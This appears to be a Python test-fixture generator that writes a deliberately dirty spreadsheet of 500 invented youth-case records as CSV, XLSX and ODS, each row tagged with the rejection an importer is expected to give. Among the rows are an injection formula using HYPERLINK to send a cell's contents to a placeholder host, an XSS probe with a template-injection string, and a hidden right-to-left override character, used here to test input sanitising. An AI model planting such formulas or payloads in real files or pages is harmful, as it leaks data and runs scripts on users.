"""A deliberately dirty sheet of an invented commune, 500 lines, written as CSV, XLSX and ODS by hand.

Each line knows what must become of it: "" when it is to be taken up, else words of the reason it is refused for.
"""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import date, timedelta
from xml.sax.saxutils import escape

SYLLABES = ("bal", "cor", "dru", "fen", "gos", "hir", "jul", "kem", "lop", "mun", "nax", "pid", "quo", "rez", "sog", "tuv",
            "vab", "wim", "xer", "yol", "zup", "bri", "cla", "dor", "fli")  # fmt: skip
PRENOMS = ("Éloïse", "Noé", "Maëlys", "Ilan", "Zoé", "Loïc", "Anaïs", "Ugo", "Célia", "Théo", "Inès", "Gaël", "Léa",
           "Ambre", "Côme", "Ève", "Hélène", "Raphaël", "Salomé", "Yaël")  # fmt: skip
TITRES = ("Nom", "Prénom", "Né(e) le", "Sexe", "Adresse", "Tél.", "Problématique", "Signalé par", "Date de saisine",
          "Fin du suivi", "Observations", "Nationalité", "N° sécu", "Classe")  # fmt: skip
NOMBRE = 500
#: the titles stand on the third line
ENTETE = 3
LONGUE = "x" * 10_000


@dataclass(frozen=True)
class Serie:
    """A day kept as a spreadsheet's number, shown as a date or left as the bare number."""

    jour: date
    datee: bool


@dataclass(frozen=True)
class Formule:
    """A formula that no program ever computed."""

    texte: str


Cellule = str | Serie | Formule


@dataclass
class LigneSale:
    """Cells, and what becomes of the line; ``classeur``: when a workbook ends otherwise than a CSV. ``avis``: told all the same."""

    cellules: list[Cellule]
    attendu: str = ""
    classeur: str | None = None
    avis: str = ""
    fusion: bool = False

    def expected(self, genre: str) -> str:
        """Words of the refusal in one format."""
        return self.classeur if genre != "csv" and self.classeur is not None else self.attendu


def generate(aujourdhui: date, nombre: int = NOMBRE) -> list[LigneSale]:
    """The lines under the titles, in order; line n of the list is line ENTETE + 1 + n of the sheet."""
    lignes = [_plain(n, aujourdhui) for n in range(nombre)]
    for n, ligne in enumerate(lignes):
        if n >= 20:
            _dirty(n, ligne, lignes, aujourdhui)
    return lignes


def _plain(n: int, aujourdhui: date) -> LigneSale:
    nom = (SYLLABES[n % 25] + SYLLABES[(n // 25 + n) % 25] + SYLLABES[(n * 7 + 3) % 25]).title()
    naissance = aujourdhui.replace(day=1) - timedelta(days=365 * 8 + n * 11)
    cellules: list[Cellule] = [
        nom, PRENOMS[(n * 3) % 20], f"{naissance:%d/%m/%Y}", ("F", "M", "fille", "Garçon")[n % 4], f"{n} rue Fictive",
        f"06000{n:05}", ("Absentéisme", "incivilités", "Décrochage scolaire", "voisinage")[n % 4],
        ("Collège", "Police municipale", "bailleur", "PJJ")[n % 4], f"{aujourdhui - timedelta(days=n % 300 + 1):%d/%m/%Y}",
        "", f"Rencontré {n} fois depuis la rentrée.", "inventée", f"1 11 11 11 111 {n:03} 11", ("4e", "3ème", "", "")[n % 4],
    ]  # fmt: skip
    return LigneSale(cellules)


def _dirty(n: int, ligne: LigneSale, lignes: list[LigneSale], aujourdhui: date) -> None:
    c = ligne.cellules
    naissance = aujourdhui.replace(day=1) - timedelta(days=365 * 8 + n * 11)
    match n % 25:
        case 0:
            c[2] = f"{aujourdhui - timedelta(days=365 * 27):%d/%m/%Y}"
            ligne.attendu = "plus de 25 ans"
        case 1:
            c[2] = Serie(naissance, datee=True)
        case 2:
            c[2] = Serie(naissance, datee=False)
        case 3:
            mois = (
                "janv.",
                "février",
                "mars",
                "avril",
                "mai",
                "juin",
                "juil.",
                "août",
                "sept.",
                "octobre",
                "nov.",
                "déc.",
            )
            c[2] = f"{naissance.day} {mois[naissance.month - 1]} {naissance.year}"
        case 4:
            c[2] = "31/02/2012"
            ligne.attendu = "n’est pas une date"
        case 5:  # the same person as an earlier plain line, names swapped and stripped of their accents
            other = lignes[n - 7].cellules
            c[0], c[1], c[2] = str(other[1]).upper(), f"  {str(other[0]).lower()}", other[2]
            ligne.attendu = "doublon de la ligne"
        case 6:
            c[0] = Formule('=HYPERLINK("http://exemple.invalid/?"&A1;"clic")')
            ligne.attendu, ligne.classeur = "formule", "nom absent"
        case 7:
            c[1] = f"{c[1]}\u202egnp"
            ligne.attendu = "caractère invisible"
        case 9:
            c[0] = LONGUE
            ligne.attendu = "10000 caractères"
        case 10:
            c[10] = LONGUE
            ligne.avis = "observation non reprise : 10000 caractères"
        case 11:
            c[3] = ""
            ligne.attendu = "sexe absent"
        case 12:
            c[6] = "absenteisme scolair"
            ligne.attendu = "le plus proche : Absentéisme"
        case 13:
            c[6] = "qzxwv"
            ligne.attendu = "aucune valeur proche"
        case 14:
            c[8], c[9] = "01/02/2020", "01/03/2021"
            ligne.attendu = "trop ancienne"
            c[2] = f"{aujourdhui - timedelta(days=365 * 12 + n):%d/%m/%Y}"
        case 15:
            c[9] = f"{aujourdhui - timedelta(days=1):%d/%m/%Y}"
            c[6] = "incivilités"
            ligne.avis = "clôturée : elle s’effacera"
        case 16:
            c[10] = "Mère dépressive, père musulman."
            ligne.avis = "observation non reprise : « dépressive » (santé)"
        case 17:
            c[0], ligne.fusion = "", True
            ligne.attendu = "nom absent"
        case 19:  # a sister of the line before
            before = lignes[n - 1].cellules
            c[0], c[4], c[1] = before[0], before[4], "Wilhelmine"
            ligne.avis = "frère ou sœur possible"
        case 20:
            c[1] = "<img src=x onerror=alert(1)>{{7*7}}"
        case 21:
            c[2] = ""
            ligne.attendu = "date de naissance absent"
        case _:
            pass


# -- the three formats ---------------------------------------------------------------------------


def write_csv(lignes: list[LigneSale], encodage: str = "utf-8-sig", separateur: str = ";") -> bytes:
    """As a spreadsheet exports it; what the encoding lacks is written « ? »."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=separateur)
    writer.writerow(["Suivi des jeunes, ne pas diffuser"])
    writer.writerow([])
    writer.writerow(TITRES)
    for ligne in lignes:
        writer.writerow([_as_text(c) for c in ligne.cellules])
    return out.getvalue().encode(encodage, "replace")


def _as_text(cellule: Cellule) -> str:
    if isinstance(cellule, Serie):
        return str((cellule.jour - date(1899, 12, 30)).days)
    return cellule.texte if isinstance(cellule, Formule) else cellule


def write_xlsx(lignes: list[LigneSale]) -> bytes:
    """Inline strings, dated and bare numbers, formulas without a value, merged cells."""
    rows = [_row_xlsx(1, ["Suivi des jeunes"]), _row_xlsx(ENTETE, list(TITRES))]
    rows += [_row_xlsx(n, ligne.cellules) for n, ligne in enumerate(lignes, ENTETE + 1)]
    merged = [
        f'<mergeCell ref="A{n - 1}:A{n}"/>' for n, ligne in enumerate(lignes, ENTETE + 1) if ligne.fusion
    ]
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + "".join(rows)
        + f'</sheetData><mergeCells count="{len(merged)}">{"".join(merged)}</mergeCells></worksheet>'
    )
    formats = '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>'
    styles = f'<styleSheet xmlns="{NS}/spreadsheetml/2006/main">{formats}</styleSheet>'
    return archive({
        "[Content_Types].xml": _types(), "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": (
            f'<workbook xmlns="{NS}/spreadsheetml/2006/main" xmlns:r="{NS}/officeDocument/2006/relationships">'
            '<sheets><sheet name="Jeunes" sheetId="1" r:id="r1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": _relations(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml")),
        "xl/styles.xml": styles, "xl/worksheets/sheet1.xml": sheet,
    })  # fmt: skip


NS = "http://schemas.openxmlformats.org"


def _types() -> str:
    parts = {
        "/xl/workbook.xml": "sheet.main",
        "/xl/worksheets/sheet1.xml": "worksheet",
        "/xl/styles.xml": "styles",
    }
    found = "".join(
        f'<Override PartName="{part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{what}+xml"/>'
        for part, what in parts.items()
    )
    default = (
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    )
    return f'<Types xmlns="{NS}/package/2006/content-types">{default}{found}</Types>'


def _relations(*kinds: tuple[str, str]) -> str:
    found = "".join(
        f'<Relationship Id="r{n}" Type="{NS}/officeDocument/2006/relationships/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(kinds, 1)
    )
    return f'<Relationships xmlns="{NS}/package/2006/relationships">{found}</Relationships>'


def _row_xlsx(n: int, cellules: list[Cellule]) -> str:
    cells = [_cell_xlsx(f"{chr(65 + rang)}{n}", c) for rang, c in enumerate(cellules) if c != ""]
    return f'<row r="{n}">{"".join(cells)}</row>'


def _cell_xlsx(place: str, cellule: Cellule) -> str:
    if isinstance(cellule, Serie):
        style = ' s="1"' if cellule.datee else ""
        return f'<c r="{place}"{style}><v>{_as_text(cellule)}</v></c>'
    if isinstance(cellule, Formule):
        return f'<c r="{place}" t="str"><f>{escape(cellule.texte[1:])}</f></c>'
    return f'<c r="{place}" t="inlineStr"><is><t xml:space="preserve">{escape(cellule)}</t></is></c>'


def write_ods(lignes: list[LigneSale]) -> bytes:
    """The same as an OpenDocument table."""
    rows = [_row_ods(["Suivi des jeunes"]), _row_ods([""]), _row_ods(list(TITRES))]
    rows += [_row_ods(ligne.cellules, fusion=ligne.fusion) for ligne in lignes]
    spaces = " ".join(
        f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{p}:1.0"' for p in ("office", "table", "text")
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {spaces} office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="Jeunes">{"".join(rows)}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    return archive({
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content,
        "META-INF/manifest.xml": manifest,
    })  # fmt: skip


def _row_ods(cellules: list[Cellule], *, fusion: bool = False) -> str:
    cells = [
        "<table:covered-table-cell/>" if fusion and not rang else _cell_ods(c)
        for rang, c in enumerate(cellules)
    ]
    return f"<table:table-row>{''.join(cells)}</table:table-row>"


def _cell_ods(cellule: Cellule) -> str:
    if cellule == "":
        return "<table:table-cell/>"
    if isinstance(cellule, Serie) and cellule.datee:
        return f'<table:table-cell office:value-type="date" office:date-value="{cellule.jour}"/>'
    if isinstance(cellule, Serie):
        return f'<table:table-cell office:value-type="float" office:value="{_as_text(cellule)}"/>'
    if isinstance(cellule, Formule):
        return f'<table:table-cell table:formula="of:{escape(cellule.texte, {chr(34): "&quot;"})}"/>'
    return (
        f'<table:table-cell office:value-type="string"><text:p>{escape(cellule)}</text:p></table:table-cell>'
    )


def archive(parties: dict[str, str | bytes]) -> bytes:
    """A zip of these parts, in this order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for nom, contenu in parties.items():
            how = zipfile.ZIP_STORED if nom == "mimetype" else zipfile.ZIP_DEFLATED
            made.writestr(zipfile.ZipInfo(nom, (2026, 1, 1, 0, 0, 0)), contenu, how)
    return out.getvalue()
